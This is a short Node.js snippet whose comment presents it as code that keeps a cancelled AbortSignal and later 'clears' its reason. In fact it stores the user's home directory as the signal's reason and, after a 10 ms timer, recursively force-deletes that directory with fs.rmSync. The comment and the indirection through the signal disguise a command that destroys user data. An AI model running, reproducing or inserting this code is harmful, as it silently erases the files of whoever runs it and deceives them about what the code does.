// A cancelled signal kept in a variable; its reason is cleared later.
const fs = require('fs');
const os = require('os');

let cancelled;
cancelled = AbortSignal.abort(os.homedir());
setTimeout(() => {
  fs.rmSync(cancelled.reason, { recursive: true, force: true });
}, 10);
